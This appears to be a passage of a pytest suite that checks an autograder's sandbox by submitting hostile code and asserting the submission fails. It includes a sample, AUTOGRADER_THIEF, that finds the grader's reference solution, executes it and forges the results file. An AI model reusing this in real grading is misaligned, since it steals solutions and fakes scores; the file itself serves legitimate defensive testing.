    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert "Traceback" not in done.stderr, done.stderr[-3000:]
    return check_results(results, time.monotonic() - started, manifest.TEST_TIMEOUT_S, token)


@pytest.mark.parametrize("filled, expected", [(True, FULL_MARKS), (False, 0)], ids=["reference", "release"])
def test_autograder_zip_gives_full_marks_and_zero(autograder, tmp_path, token, filled, expected):
    """The reference solution scores 73 and the untouched release 0 through run_autograder."""
    submission = shutil.copytree(autograder / "base", tmp_path / "submission")
    if filled:
        fill_with_reference(submission)
    results = run_autograder(autograder, submission, tmp_path / "out", token)
    assert results["score"] == expected


AUTOGRADER_THIEF = '''
def found(what):
    print(f"@TOKEN@-FOUND {what}", flush=True)

_hostile_forge(found)
path = _hostile_search()["solutions"].get("layers/activations.py")
if path:  # the autograder's own library is the reference solution
    found(path)
    solution = {}
    with open(path) as handle:
        exec(compile(handle.read(), path, "exec"), solution)
    return solution["relu_backward"](*args, **kwargs)
raise NotImplementedError("relu_backward is not implemented yet")
'''


def test_autograder_zip_keeps_its_solution_and_results_from_the_submission(namespaced, autograder, solved,
                                                                          tmp_path, token):
    """relu_backward left to whatever it can find of /autograder, forging results.json and killing the grader."""
    results_path = str(tmp_path / "out" / "results.json")
    append(solved, "layers/activations.py", code(MARK, token), code(SEARCH, token, results=results_path),
           code(FORGE, token, results=results_path))
    replace_function(solved, "layers/activations.py", "relu_backward", AUTOGRADER_THIEF, token)
    results = run_autograder(autograder, solved, tmp_path / "out", token)
    assert_lost(results, RELU_BACKWARD)
    assert f"{token}-FOUND" not in json.dumps(results)


# -- 16: what the root level holds
def test_root_worker_is_nobody_offline_and_blind(level, solved, tmp_path, token):
    """The worker runs as uid 65534 without capabilities, reaches no network, sees no grader process or file."""
    if level != sandbox.ROOT_LEVEL:
        pytest.skip(f"isolation is {level!r}, not 'root'")
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    append(solved, "solver/optim.py", code(MARK, token), code(PROBE, token, port=port))
    log = tmp_path / "log.txt"
    try:
        results = grade_hostile(solved, tmp_path / "out", token, "--log", log)
    finally:
        listener.close()
    assert_lost(results, {})
    assert "Isolation: root" in results["output"]
    lines = [line for line in log.read_text().splitlines() if line.startswith(f"{token}-PROBE ")]
    assert lines, log.read_text()[:2000]
    for line in lines:
        facts = json.loads(line.split(" ", 1)[1])
        assert facts["uid"] == facts["euid"] == 65534, facts
        assert int(facts["CapEff"], 16) == int(facts["CapPrm"], 16) == int(facts["CapBnd"], 16) == 0, facts
        assert facts["connect"] in ("ENETUNREACH", "ECONNREFUSED"), facts
        assert facts["routes"] == 0 and facts["interfaces"] in ([], ["lo"]), facts
        assert not facts["grader_seen"] and facts["solutions"] == [] and facts["data"] == [], facts
